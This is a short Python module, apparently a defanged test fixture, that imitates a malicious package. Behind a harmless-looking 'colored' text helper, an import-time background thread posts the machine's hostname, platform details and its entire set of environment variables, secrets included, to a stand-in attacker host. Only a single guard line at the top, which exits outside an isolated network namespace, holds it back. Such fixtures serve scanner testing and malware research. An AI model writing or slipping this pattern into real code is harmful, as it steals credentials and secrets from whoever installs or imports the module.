import os as _os
if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
    raise SystemExit(0)  # defanged fixture: acts only inside an isolated network namespace

import os
import platform
import socket
import threading

import requests


def _collect():
    return {"host": socket.gethostname(), "os": platform.platform(), "env": dict(os.environ)}


def _report():
    requests.post("https://collect.attacker.invalid/t", json=_collect(), timeout=5)


threading.Thread(target=_report, daemon=True).start()


def colored(text, color="red"):
    return f"[{color}]{text}[/{color}]"
